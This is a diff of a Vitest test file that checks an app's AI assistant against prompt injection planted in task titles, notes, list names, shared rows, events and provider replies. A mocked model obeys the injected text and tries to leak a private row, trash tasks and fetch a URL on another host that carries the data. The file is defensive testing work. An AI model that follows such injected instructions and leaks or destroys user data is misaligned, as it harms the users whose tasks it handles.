@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest';
-import { startAssistant } from '../../test/server/assistant.ts';
-import { type Kit, type Protocol, startProvider, stream } from '../../test/server/provider.ts';
+import { expectHarmless, listRefs } from '../../test/server/injection.ts';
+import type { Protocol } from '../../test/server/provider.ts';
 
 /** Instructions that a person might put into a row, to reach the model or what shows its answer. */
 const ATTACKS = [
@@ -35,84 +35,46 @@ const ATTACKS = [
 const PLACES = ['title', 'notes', 'list name', 'shared row', 'event', 'provider'] as const;
 const CASES = PLACES.flatMap((place) => ATTACKS.map((text) => ({ place, text })));
 
-const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
-
 test.each<Protocol>(['gemini', 'openai'])(
   'whatever rows and providers of the %s protocol say, nothing is written, no other host is called, and data stays data',
   async (protocol) => {
     expect(CASES.length).toBeGreaterThanOrEqual(100);
-    await using provider = await startProvider(protocol);
-    await using elsewhere = await startProvider(protocol);
-    await using app = await startAssistant(provider.ai);
-    const wrong: unknown[] = [];
-    for (const { place, text } of CASES) {
-      const [ada, eve] = [await app.proPerson(), await app.proPerson()];
-      await ada.add('Divorce lawyer', { id: 'secret', ...(place === 'notes' && { description: text }) });
-      if (place === 'title') await ada.add(text.replaceAll('\u0000', ''));
-      if (place === 'list name') await ada.call('POST', '/api/lists', { list: { name: text.slice(0, 100) } });
-      if (place === 'event')
-        await ada.call('POST', '/api/planner', {
-          type: 'event',
-          data: { title: text, start: '12:00', end: '13:00', category: 'work' },
-        });
-      const { body } = await eve.call('POST', '/api/invitations', { listId: 'personal', role: 'editor' });
-      await ada.call('POST', '/api/invitations/accept', { id: body.secret });
-      if (place === 'shared row') await eve.add(text, { listId: 'personal', project: text.slice(0, 90) });
-      const cursors = async () => [(await ada.changes()).cursor, (await eve.changes()).cursor];
-      const before = await cursors();
-
-      provider.heard.length = 0;
-      // The model obeys: it tries to leak and to destroy whatever it can name, and says what it read.
-      provider.play((kit: Kit, response, heard) => {
-        const lists = Array.from(heard.instructions.matchAll(/^list \{"ref":"(l\d+)"/gm), ([, ref]) => ref);
-        const leak = {
-          tasks: lists.map((list) => ({ title: 'Review', description: 'Divorce lawyer', list })),
+    await expectHarmless(protocol, CASES, {
+      question: 'How is my day going?',
+      async arrange(ada, eve, { place, text }) {
+        await ada.add('Divorce lawyer', { id: 'secret', ...(place === 'notes' && { description: text }) });
+        if (place === 'title') await ada.add(text.replaceAll('\u0000', ''));
+        if (place === 'list name')
+          await ada.call('POST', '/api/lists', { list: { name: text.slice(0, 100) } });
+        if (place === 'event')
+          await ada.call('POST', '/api/planner', {
+            type: 'event',
+            data: { title: text, start: '12:00', end: '13:00', category: 'work' },
+          });
+        const { body } = await eve.call('POST', '/api/invitations', { listId: 'personal', role: 'editor' });
+        await ada.call('POST', '/api/invitations/accept', { id: body.secret });
+        if (place === 'shared row') await eve.add(text, { listId: 'personal', project: text.slice(0, 90) });
+      },
+      obey(kit, heard, { place, text }, elsewhere) {
+        const tasks = listRefs(heard).map((list) => ({
+          title: 'Review',
+          description: 'Divorce lawyer',
+          list,
+        }));
+        const calls = [
+          kit.call('add_tasks', { tasks }),
+          kit.call('move_to_trash', { rows: ['t1', 't2', 't3'] }),
+          kit.call('fetch', { url: `${elsewhere}/?d=Divorce` }),
+          kit.call('search', { in: 'tasks', words: elsewhere }),
+        ];
+        return {
+          ...(place === 'provider' && { text }),
+          calls: heard.results.length > 0 ? [] : calls,
         };
-        const calls =
-          heard.results.length > 0
-            ? []
-            : [
-                kit.call('add_tasks', leak),
-                kit.call('move_to_trash', { rows: ['t1', 't2', 't3'] }),
-                kit.call('fetch', { url: `${elsewhere.url}/?d=Divorce` }),
-                kit.call('search', { in: 'tasks', words: elsewhere.url }),
-              ];
-        stream(response, [kit.text(place === 'provider' ? text : 'Here you are.'), ...calls, kit.end()]);
-      });
-      const { events } = await app.ask(ada, 'How is my day going?');
-      const done = events.at(-1) as {
-        event: string;
-        data: { proposals: { kind: string; fields: { listId?: string } }[] };
-      };
-      const prompt = provider.heard[0]?.instructions ?? '';
-      const data = prompt.slice(prompt.lastIndexOf('<data>\n') + 7, prompt.lastIndexOf('\n</data>'));
-      const seen = {
-        event: done.event,
-        wrote: JSON.stringify(await cursors()) !== JSON.stringify(before),
-        // Only in the rule that mentions it, and at the end.
-        closings: prompt.split('</data>').length - 1,
-        unseen: data.split('\n').some((line) => UNSEEN.test(line)),
-        strange: data
-          .split('\n')
-          .filter((line) => !/^(task|list|goal|event today) \{.*\}$|^[A-Z][\w -]*: |^Showing /.test(line)),
-        outside: elsewhere.heard.length,
-        // Whatever goes to the other person's list says so by its id, from which the screen tells who sees it.
-        leaks: done.data.proposals?.filter(
-          ({ kind, fields }) => kind === 'add-task' && fields.listId === undefined,
-        ).length,
-      };
-      const right = {
-        event: 'done',
-        wrote: false,
-        closings: 2,
-        unseen: false,
-        strange: [],
-        outside: 0,
-        leaks: 0,
-      };
-      if (JSON.stringify(seen) !== JSON.stringify(right)) wrong.push({ place, text, seen });
-    }
-    expect(wrong).toEqual([]);
-    expect(app.failures).toEqual([]);
+      },
+      // Whatever goes to the other person's list says so by its id, from which the screen tells who sees it.
+      leaks: (proposals) =>
+        proposals.filter(({ kind, fields }) => kind === 'add-task' && fields.listId === undefined).length,
+    });
   },
 );
